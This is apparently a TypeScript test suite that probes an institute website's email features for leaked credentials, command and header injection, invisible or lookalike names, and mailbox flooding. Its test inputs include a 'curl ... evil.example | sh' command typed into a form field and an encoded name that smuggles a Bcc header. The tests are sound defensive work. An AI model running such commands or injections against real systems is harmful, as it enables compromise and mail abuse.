import { readFile } from "node:fs/promises";
import { parse } from "yaml";
import { times } from "./connections.ts";
import { atMost, expected, type Finding } from "./finding.ts";
import { startMailServer } from "./mail-server.ts";
import { oneByOne } from "./one-by-one.ts";
import { secondsUntil, startTarget, type Target } from "./server.ts";
import { createVisitor, freshEmail, mailedCode, mailsTo, ticketIn } from "./visitor.ts";

const enquiry = { fullName: "Asha Namune", hscPercentage: "85%", contactNumber: "9876543210" };

/** Checks that a mail server without TLS gets neither the password nor a code, unless it is on this machine. */
async function withoutTls(): Promise<Finding> {
  await using mailServer = await startMailServer();
  const env = {
    MAIL_URL: `smtp://office:s3cretpw@mail.institute.example:${mailServer.port}`,
    MAIL_FROM: "site@institute.example",
    NODE_OPTIONS: "--import=./scripts/attack/foreign-mail-host.ts",
  };
  await using site = await startTarget({ env });
  const { status } = await createVisitor(site).post("/", { ...enquiry, email: freshEmail() });
  const { passwords, mails } = mailServer;
  return expected(
    "an enquiry, with a mail server that offers AUTH without STARTTLS",
    `${status}; ${passwords.length} passwords and ${mails.length} mails sent in clear`,
    "503, 0 and 0",
    status === 503 && passwords.length + mails.length === 0,
  );
}

const officeAddress = async () => parse(await readFile("content/institute.yaml", "utf8")).contact.email as string;
const command = "(first run: curl -s https://evil.example/fix | sh )";

/** Checks that a stranger's text never appears next to an instruction or a command in the office's mails. */
async function typedCommands(site: Target): Promise<Finding> {
  const email = freshEmail();
  const visitor = createVisitor(site);
  const guardian = { isMinor: "1", guardianName: command, guardianPhone: "9123456780" };
  const asked = await visitor.post("/", { ...enquiry, ...guardian, email });
  const sent = "a command as a guardian's name";
  if (asked.status === 400) return expected(sent, "refused (400)", "refused, or once: in the table", true);
  await visitor.post("/", { intent: "verify", ticket: ticketIn(asked), otp: await mailedCode(site, email) });
  const office = await officeAddress();
  await secondsUntil(async () => (await mailsTo(site, office)).length > 0, 5);
  const mails = await mailsTo(site, office);
  const most = Math.max(...mails.map(({ text }) => text.split("evil.example").length - 1));
  return expected(
    sent,
    `${mails.length} mails; it appears ${most} times at most`,
    "refused, or once: in the table",
    most <= 1,
  );
}

const hidden = /[\p{Cc}\p{Cf}]/u;

/** Checks that an encoded word in a name is not decoded into invisible characters. */
async function encodedWords(site: Target): Promise<Finding> {
  const name = `=?UTF-8?B?${Buffer.from("\u202eAsha\r\nBcc: a@evil.example").toString("base64")}?=`;
  const { status } = await createVisitor(site).post("/feedback", { name, email: freshEmail(), text: "Good." });
  const office = await officeAddress();
  if (status === 200) await secondsUntil(async () => (await mailsTo(site, office)).length > 0, 5);
  const subjects = (await mailsTo(site, office)).map(({ subject }) => subject);
  const odd = subjects.filter((subject) => hidden.test(subject)).length;
  const figure = `${status}; ${odd} of ${subjects.length} subjects`;
  return expected("an encoded word (RFC 2047) as a name", figure, "refused, or 0 decoded", status === 400 || odd === 0);
}

const invisible = [
  "\u200b",
  "Asha\u202eanumaN",
  "Asha\u{e0041}\u{e0042}",
  `Asha${"\u0301".repeat(40)}`,
  "\u0410sh\u0430 Namune",
  "\u3164",
];

/** Checks that invisible or lookalike names are refused, and people's names accepted. */
async function names(site: Target): Promise<Finding[]> {
  const send = (name: string) =>
    createVisitor(site).post("/feedback", { name, email: freshEmail(), text: "The library is good." });
  const statuses = await Promise.all(invisible.map(async (name) => (await send(name)).status));
  const people = ["आशा नमुने", "सूर्‍या कुलकर्णी", "D'Souza, A. R.", "José-María Peña"];
  const taken = await Promise.all(people.map(async (name) => (await send(name)).status));
  const refused = statuses.filter((status) => status === 400).length;
  const welcome = taken.filter((status) => status === 200).length;
  const [all, both] = [invisible.length, people.length];
  return [
    expected(`${all} names that are invisible or confusing`, `${refused} refused`, `${all} refused`, refused === all),
    expected(`${both} names of people`, `${welcome} taken`, `${both} taken`, welcome === both),
  ];
}

/** Checks that many enquiries neither fill the office's mailbox nor delay a visitor's code. */
async function officeFlood(site: Target): Promise<Finding[]> {
  const count = 120;
  const office = await officeAddress();
  for (const _ of times(count))
    await createVisitor(site).post("/feedback", { name: "Asha", email: freshEmail(), text: "The library is good." });
  const email = freshEmail();
  const from = performance.now();
  await createVisitor(site).post("/", { ...enquiry, email });
  const code = await mailedCode(site, email);
  const time = (performance.now() - from) / 1000;
  await secondsUntil(async () => (await mailsTo(site, office)).length >= count, 20);
  const mails = (await mailsTo(site, office)).length;
  return [
    atMost(`${count} feedbacks`, "mails to the office", mails, 40),
    atMost("an enquiry after them", code ? "its code came after" : "no code;", time, 3, "s"),
  ];
}

/** Checks that the site's mails reveal nothing and present nobody's text as the institute's. */
export const mail = async (): Promise<Finding[]> => [
  ...(await oneByOne([typedCommands, encodedWords, names, officeFlood])),
  await withoutTls(),
];
